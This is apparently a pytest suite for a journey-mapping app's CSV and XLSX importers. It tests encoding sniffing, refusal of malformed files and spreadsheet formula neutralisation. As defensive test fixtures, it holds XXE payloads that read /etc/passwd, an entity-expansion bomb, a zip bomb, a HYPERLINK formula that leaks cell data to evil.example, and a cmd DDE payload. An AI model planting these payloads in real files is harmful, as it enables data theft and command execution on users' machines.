"""Reading CSV and XLSX tables: encodings, delimiters, limits, damaged and hostile files (one-line
refusals naming the row, never a traceback), and the formula-injection neutraliser."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journeymap_desktop.storage.importers import xlsx_reader
from journeymap_desktop.storage.importers.cells import (
    neutralise_cell,
    neutralise_row,
    restore_cell,
)
from journeymap_desktop.storage.importers.csv_reader import sniff_delimiter
from journeymap_desktop.storage.importers.errors import ImportRefused
from journeymap_desktop.storage.importers.tables import MAX_COLUMNS, open_table

ROWS = [["Stage", "Touchpoint", "Score", "Comment"],
        ["Order", "Checkout", "4", "Quick; easy, \"fine\""],
        ["Delivery", "Tracking", "2", "Late again\nand cold"]]


def _rows(path: Path, **options: str) -> list[tuple[int, list[str]]]:
    return list(open_table(path, **options).rows())


def _csv_text(rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def _read_all(path: Path) -> list[tuple[int, list[str]]]:
    return list(open_table(path).rows())


def _refusal(path: Path) -> str:
    with pytest.raises(ImportRefused) as caught:
        _read_all(path)
    message = str(caught.value)
    assert "\n" not in message and "Traceback" not in message
    return message


# ----- CSV: encodings and delimiters ---------------------------------------------------------
@pytest.mark.parametrize(
    ("encoded", "encoding"),
    [
        (lambda t: t.encode("utf-8"), "utf-8"),
        (lambda t: b"\xef\xbb\xbf" + t.encode("utf-8"), "utf-8"),
        (lambda t: b"\xff\xfe" + t.encode("utf-16-le"), "utf-16-le"),
        (lambda t: b"\xfe\xff" + t.encode("utf-16-be"), "utf-16-be"),
        (lambda t: t.encode("cp1252"), "cp1252"),
    ],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_csv_encodings_and_delimiters_are_sniffed(tmp_path: Path, encoded: object,
                                                   encoding: str, delimiter: str) -> None:
    rows = [*ROWS, ["Après-vente", "Café", "5", "Très bien – merci"]]
    path = tmp_path / "data.csv"
    path.write_bytes(encoded(_csv_text(rows, delimiter)))  # type: ignore[operator]
    table = open_table(path)
    assert (table.format, table.encoding, table.delimiter) == ("csv", encoding, delimiter)
    assert [cells for _, cells in table.rows()] == rows
    notes = [w.code for w in table.warnings]
    assert notes == (["not-utf8"] if encoding == "cp1252" else [])


def test_excel_sep_line_is_honoured_and_not_a_row(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_text("sep=;\n" + _csv_text(ROWS, ";"), encoding="utf-8")
    table = open_table(path)
    assert table.delimiter == ";"
    assert [row for row, _ in table.rows()] == [2, 3, 4]


def test_row_numbers_are_spreadsheet_rows_blank_rows_counted_but_not_yielded(
        tmp_path: Path) -> None:
    path = tmp_path / "gaps.csv"
    path.write_text("a,b\n\n1,2\n\"multi\nline\",3\n4,5\n", encoding="utf-8")
    assert _rows(path) == [(1, ["a", "b"]), (3, ["1", "2"]), (4, ["multi\nline", "3"]),
                           (5, ["4", "5"])]


def test_sniffing_prefers_the_delimiter_that_gives_consistent_columns() -> None:
    assert sniff_delimiter('a;b;c\n"1,5";2;3\n"4,5";5;6\n') == ";"
    assert sniff_delimiter("a,b\n1,2\n") == ","
    assert sniff_delimiter("one column\nonly\n") == ","
    qualtrics = '"Q1","Q2"\n"How, really?","Why; not"\n"{""ImportId"":""QID1""}","x"\n'
    assert sniff_delimiter(qualtrics) == ","


# ----- CSV: damaged, binary, oversized --------------------------------------------------------
def test_a_csv_cut_short_inside_a_quoted_cell_warns_on_that_row(tmp_path: Path) -> None:
    path = tmp_path / "cut.csv"
    path.write_text('a,b\n1,2\n3,"a long comment that was cu', encoding="utf-8")
    table = open_table(path)
    rows = list(table.rows())
    assert rows[-1] == (3, ["3", "a long comment that was cu"])
    assert [(w.place, w.code, w.unit) for w in table.warnings] == [(3, "cut-short", "row")]
    assert str(table.warnings[0]).startswith("row 3: warning: the file ends inside a quoted")


def test_a_csv_cut_in_the_middle_of_a_character_warns(tmp_path: Path) -> None:
    path = tmp_path / "cut.csv"
    path.write_bytes("a,b\n1,Zoë".encode()[:-1])
    table = open_table(path)
    assert list(table.rows()) == [(1, ["a", "b"]), (2, ["1", "Zo"])]
    assert [w.code for w in table.warnings] == ["cut-short"]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "the file is empty"),
        (bytes(range(256)) * 40, "binary data"),
        (b"%PDF-1.7\n...", "a PDF document"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel .xls"),
        (b"a,b\n1,2\n" + b"\x00\x01\x02\x03" * 100, "binary data"),
    ],
)
def test_binary_and_empty_files_are_refused_in_one_line(tmp_path: Path, content: bytes,
                                                        expected: str) -> None:
    path = tmp_path / "survey.csv"
    path.write_bytes(content)
    assert expected in _refusal(path)


def test_ten_thousand_columns_are_refused_naming_the_row(tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text("a,b\n" + ",".join(str(i) for i in range(10_000)) + "\n", encoding="utf-8")
    message = _refusal(path)
    assert "row 2: this row has 10,000 cells" in message
    assert f"at most {MAX_COLUMNS:,} columns" in message


def test_a_huge_cell_is_refused_naming_the_row(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text('a,b\n1,2\n3,"' + "x" * 200_000 + '"\n', encoding="utf-8")
    assert "row 3: a cell longer than 131,072 characters" in _refusal(path)


def test_a_200_mb_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as handle:
        handle.truncate(200 * 1024 * 1024)  # sparse: costs no disk and no reading
    assert "the file is 200 MB; JourneyMap reads tables of up to 100 MB" in _refusal(path)


def test_a_folder_or_a_missing_file_is_refused(tmp_path: Path) -> None:
    assert "a folder" in _refusal(tmp_path)
    assert "cannot read the file" in _refusal(tmp_path / "missing.csv")


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_any_bytes_give_rows_or_a_one_line_refusal(raw: bytes) -> None:
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        path.write_bytes(raw)
        try:
            rows = _read_all(path)
        except ImportRefused as refusal:
            rows, message = [], str(refusal)
        else:
            message = ""
        assert "\n" not in message
        assert all(isinstance(cell, str) for _, cells in rows for cell in cells)


_CELL = st.text(st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n\t"),
                max_size=12)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.lists(_CELL, min_size=3, max_size=3), min_size=2, max_size=6),
       st.sampled_from([",", ";", "\t", "|"]), st.sampled_from(["utf-8", "utf-8-sig",
                                                                "utf-16"]))
def test_csv_written_by_pythons_csv_module_reads_back(rows: list[list[str]], delimiter: str,
                                                      encoding: str) -> None:
    import tempfile
    header = [["Stage", "Touchpoint", "Score"]]
    text = _csv_text(header + rows, delimiter)
    everything = "".join(cell for row in rows for cell in row)
    if any(other in everything for other in {",", ";", "\t", "|"} - {delimiter}):
        return  # another delimiter inside unquoted cells makes the file ambiguous to anyone
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        path.write_bytes(text.encode(encoding))
        table = open_table(path)
        assert [cells for _, cells in table.rows()] == header + rows


# ----- XLSX -----------------------------------------------------------------------------------
def test_xlsx_written_by_openpyxl_reads_as_text_cells(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Responses"
    sheet.append(["Respondent", "Started", "Score", "Comment", "Done"])
    sheet.append([101, dt.datetime(2024, 5, 1, 10, 30), 4, "Great & <fast>", True])
    sheet.append([102, dt.date(2024, 5, 2), 2.5, "  spaced  ", False])
    sheet.append([103, None, None, "Ünïcödé 😀"])
    sheet["G6"] = "far away"
    workbook.create_sheet("Second").append(["other"])
    path = tmp_path / "export.xlsx"
    workbook.save(path)
    table = open_table(path)
    assert (table.format, table.sheet) == ("xlsx", "Responses")
    assert list(table.rows()) == [
        (1, ["Respondent", "Started", "Score", "Comment", "Done"]),
        (2, ["101", "2024-05-01 10:30:00", "4", "Great & <fast>", "TRUE"]),
        (3, ["102", "2024-05-02", "2.5", "  spaced  ", "FALSE"]),
        (4, ["103", "", "", "Ünïcödé 😀"]),
        (6, ["", "", "", "", "", "", "far away"]),
    ]
    assert _rows(path, sheet="Second") == [(1, ["other"])]
    with pytest.raises(ImportRefused, match='no sheet named "Third"'):
        open_table(path, sheet="Third")


def test_xlsx_shared_strings_with_rich_text_and_phonetic_runs(tmp_path: Path) -> None:
    shared = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<si><t>plain</t></si>'
              '<si><r><rPr><b/></rPr><t>bold</t></r><r><t xml:space="preserve"> and not</t></r>'
              '</si><si><t>漢字</t><rPh sb="0" eb="2"><t>かんじ</t></rPh></si></sst>')
    sheet = _sheet('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
                   '<c r="C1" t="s"><v>2</v></c><c r="D1" t="str"><f>A1&amp;B1</f>'
                   '<v>plain&amp;bold</v></c><c r="E1" t="e"><v>#N/A</v></c></row>')
    path = _xlsx(tmp_path, sheet, shared=shared)
    assert _rows(path) == [(1, ["plain", "bold and not", "漢字", "plain&bold", "#N/A"])]


def test_xlsx_with_prefixed_tags_reads_like_the_canonical_form(tmp_path: Path) -> None:
    canonical = _xlsx(tmp_path, _sheet('<row r="2"><c r="A2"><v>1</v></c>'
                                       '<c r="C2" t="inlineStr"><is><t>x &lt; y</t></is></c>'
                                       '</row>'), name="a.xlsx")
    prefixed = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<x:sheetData><x:row r="2"><x:c r="A2"><x:v>1</x:v></x:c><x:c r="C2" t="inlineStr">'
        '<x:is><x:t>x &lt; y</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>')
    unusual = _sheet('<row r="2"><c t="n" r="A2"><v>1</v></c>'  # attributes in another order
                     '<c r="C2" t="inlineStr"><is><r><t>x &lt; </t></r><r><t>y</t></r></is></c>'
                     '</row>')
    expected = [(2, ["1", "", "x < y"])]
    assert _rows(canonical) == expected
    assert _rows(_xlsx(tmp_path, prefixed, name="b.xlsx")) == expected
    assert _rows(_xlsx(tmp_path, unusual, name="c.xlsx")) == expected


@pytest.mark.parametrize(
    ("sheet", "shared", "expected"),
    [
        ('<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
         '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c>'
         '</row></sheetData></worksheet>', None, "declares a document type or entities"),
        ('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><worksheet/>', None,
         "declares a document type"),
        (None, '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/hostname">]><sst><si><t>&e;</t>'
               '</si></sst>', "declares a document type"),
        ('<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c>', None, "cut short"),
        ('<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></sheetData></worksheet>',
         None, "row 1: a row of the worksheet never ends"),
        ('<worksheet><sheetData><row r="7"><c r="XFD7"><v>1</v></c></row></sheetData>'
         '</worksheet>', None, "row 7: a cell in column XFD (column 16,384)"),
        ('<worksheet><sheetData><row r="3"><c r="A3" t="s"><v>99</v></c></row></sheetData>'
         '</worksheet>', None, "row 3: a cell points to shared string"),
    ],
)
def test_hostile_or_broken_xlsx_is_refused_in_one_line(tmp_path: Path, sheet: str | None,
                                                       shared: str | None,
                                                       expected: str) -> None:
    path = _xlsx(tmp_path, sheet or _sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                 shared=shared)
    assert expected in _refusal(path)


def test_a_zip_bomb_stops_at_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_reader, "MAX_PART_BYTES", 1024 * 1024)
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>1</v></c></row>' for i in range(1, 60_000))
    path = _xlsx(tmp_path, _sheet(rows))
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    assert info.compress_size < info.file_size / 5
    assert "inflates to" in _refusal(path)
    # The same when the archive lies about the size: the counter, not the header, decides.
    liar = tmp_path / "liar.xlsx"
    data = bytearray(path.read_bytes())
    real = info.file_size.to_bytes(4, "little")
    data = data.replace(real, (1000).to_bytes(4, "little"))
    liar.write_bytes(bytes(data))
    message = _refusal(liar)
    assert "inflates to more than" in message or "cannot be unpacked" in message


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"},
         "OpenDocument spreadsheet (.ods)"),
        ({"word/document.xml": "<w/>"}, "a Word document"),
        ({"hello.txt": "hi"}, "not an Excel workbook"),
    ],
)
def test_other_zip_files_are_named(tmp_path: Path, parts: dict[str, str], expected: str) -> None:
    path = tmp_path / "file.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    assert expected in _refusal(path)


def test_an_xlsx_cut_short_is_refused_in_one_line(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for i in range(2000):
        sheet.append([i, f"text {i}" * 5])
    whole = tmp_path / "whole.xlsx"
    workbook.save(whole)
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    assert "damaged ZIP archive" in _refusal(cut)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.one_of(
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=10)
    .filter(lambda t: not t.startswith("=")),
    st.integers(-10**9, 10**9)), min_size=1, max_size=5), min_size=1, max_size=8))
def test_any_sheet_openpyxl_writes_reads_back(rows: list[list[str | int]]) -> None:
    import tempfile
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.xlsx"
        workbook.save(path)
        read = [cells for _, cells in open_table(path).rows()]
    assert read == [[str(value) for value in row] for row in rows]


def _sheet(rows: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<sheetData>{rows}</sheetData></worksheet>")


def _xlsx(folder: Path, sheet: str, *, shared: str | None = None,
          name: str = "book.xlsx") -> Path:
    path = folder / name
    relations = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
                 '.org/officeDocument/2006/relationships/worksheet" '
                 'Target="worksheets/sheet1.xml"/>'
                 '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                 '</Relationships>')
    workbook = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", relations)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            archive.writestr("xl/sharedStrings.xml", shared)
    return path


# ----- formula injection ---------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")',
         '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("-2", "-2"),
        ("+3.5", "+3.5"),
        ("-1e5", "-1e5"),
        ("Plain text", "Plain text"),
        ("", ""),
        ("'apostrophe", "'apostrophe"),
    ],
)
def test_cells_that_start_like_formulas_are_neutralised(value: str, written: str) -> None:
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


@given(st.text(max_size=20))
def test_neutralising_is_safe_and_undone_exactly(value: str) -> None:
    written = neutralise_cell(value)
    assert restore_cell(written) == value
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(written)  # only a plain number may start like that


def test_a_neutralised_row_opens_as_text_in_a_real_csv_round_trip(tmp_path: Path) -> None:
    row = ['=HYPERLINK("http://x")', "-2", "@me", "ok"]
    path = tmp_path / "out.csv"
    path.write_text(_csv_text([["a", "b", "c", "d"], neutralise_row(row)]), encoding="utf-8")
    read = [cells for _, cells in open_table(path).rows()][1]
    assert read == ['\'=HYPERLINK("http://x")', "-2", "'@me", "ok"]
    assert [restore_cell(cell) for cell in read] == row
